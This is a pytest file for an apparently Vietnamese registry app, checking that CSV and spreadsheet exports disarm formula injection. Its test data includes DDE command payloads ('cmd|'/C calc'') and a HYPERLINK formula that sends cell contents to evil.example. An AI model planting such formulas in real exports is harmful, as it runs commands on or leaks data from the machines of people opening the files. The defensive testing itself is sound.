"""A register that goes out as a table runs nothing on the machine it is opened on."""

import csv
import io
from pathlib import Path

import pytest

import guong
from guong.apps.registries.models import Channel
from guong.apps.units.actions.tables import Table, faulty_rows
from guong.engines.channels import read_register
from guong.engines.viet.cells import disarm_formula
from tests.apps.registries.factories import channel

pytestmark = pytest.mark.django_db
# What an officer of one commune may type, and a spreadsheet of the province would run.
FORMULAS = (
    "=1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example/?"&A2,"Xã Vĩnh Ô")',
)


def exported_rows(client):
    text = client.get("/don-vi/kenh/tai-ve").content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name", FORMULAS)
def test_no_cell_of_the_register_begins_like_a_formula(signed_in, district, name):
    channel(district.vinh_o, district.lan, name=name)

    [row] = exported_rows(signed_in(district.tung))

    assert row["name"].startswith("'")
    assert row["name"].lstrip("'").strip().startswith(name.strip())


@pytest.mark.parametrize("separator", [";", "\t"])
def test_a_spreadsheet_that_parts_cells_elsewhere_finds_no_formula_either(signed_in, district, separator):
    channel(district.vinh_o, district.lan)
    Channel.objects.update(name=f"Xã{separator}=1+cmd|'/C calc'!A0")

    text = signed_in(district.tung).get("/don-vi/kenh/tai-ve").content.decode("utf-8-sig")

    cells = [cell for line in text.splitlines() for cell in line.split(separator)]
    assert not any(cell.strip('" ').startswith(("=", "+", "-", "@")) for cell in cells)


def test_a_number_written_for_abroad_comes_back_as_it_was(signed_in, district):
    channel(district.vinh_o, district.lan, "+84 233 3820 123", kind="phone", name="Trực ban")

    out = signed_in(district.lan).get("/don-vi/kenh/tai-ve").content

    [row] = read_register(out).rows
    assert row.channel.printed == "+84 233 3820 123"


def test_rows_that_were_not_taken_go_back_disarmed_and_come_in_again():
    table = Table(("Tên",), ((2, ("=1+1",)),))

    written = faulty_rows(table, {2: ["sai"]}).decode("utf-8-sig")

    assert "'=1+1" in written
    assert disarm_formula("Xã Vĩnh Ô") == "Xã Vĩnh Ô"
    assert disarm_formula("") == ""


@pytest.mark.parametrize(
    ("maker", "disarming"), [("csv.writer(", "disarm_formula("), ("import Workbook", 'data_type = "s"')]
)
def test_every_table_that_the_product_writes_is_disarmed(maker, disarming):
    files = [path for path in Path(guong.__file__).parent.rglob("*.py") if "demo" not in path.parts]
    makers = [source for path in files if maker in (source := path.read_text("utf-8"))]

    assert makers and all(disarming in source for source in makers)
